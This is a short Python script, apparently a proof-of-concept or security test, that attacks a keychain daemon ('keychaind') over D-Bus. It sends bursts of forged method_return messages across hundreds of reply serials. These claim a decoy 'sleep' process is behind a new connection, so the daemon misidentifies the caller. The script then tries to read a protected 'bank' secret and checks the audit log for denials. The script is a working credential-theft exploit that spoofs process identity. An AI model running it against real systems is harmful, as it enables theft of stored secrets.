"""Answers keychaind's questions about a connection before the bus does, in the name of another process."""

import os
import subprocess

from jeepney import Endianness, Header, HeaderFields, Message

from secrets_client import *

BANK = {**SCHEMA, "service": "bank", "keychain:access-control": "userPresence"}
VALUE = b"released to its reader only"
ROUNDS = 20
# More than keychaind makes here.
SERIALS = range(1, 600)


def replies(receiver, process):
    """Replies with all serials that say which process is behind a connection."""
    fields = {HeaderFields.destination: receiver, HeaderFields.signature: "a{sv}"}
    body = ({"ProcessID": ("u", process), "UnixUserID": ("u", os.getuid())},)
    for serial in SERIALS:
        all_fields = {**fields, HeaderFields.reply_serial: serial}
        header = Header(Endianness.little, MessageType.method_return, 1, 1, -1, serial, all_fields)
        yield Message(header, body).serialise(serial=serial)


owner, forger = Client(), Client()
item, _ = owner.create("Bank", BANK, VALUE)
receiver = unwrap_msg(owner.connection.send_and_get_reply(message_bus.GetNameOwner(BUS_NAME)))[0]
other = subprocess.Popen(["sleep", "1000"])
callers = []
try:
    burst = b"".join(replies(receiver, other.pid))
    for _ in range(ROUNDS):
        forger.connection.sock.sendall(burst)
        # keychaind looks at each connection that appears.
        attacker = Client()
        forger.connection.sock.sendall(burst * 3)
        attempt(attacker.read, item)
        entries = owner.call("/org/keychaind/Audit", "org.keychaind.Audit1", "Read", "tu", 0, 1)[0]
        callers += [entry[2] for entry in entries]
        attacker.close()
finally:
    other.kill()
    other.wait()
print("the audit has the denials:", any("python" in caller for caller in callers))
verdict("replies in place of the bus", b"sleep", callers)
print("the owner reads:", owner.unlock(item) == [item] and owner.read(item) == VALUE)
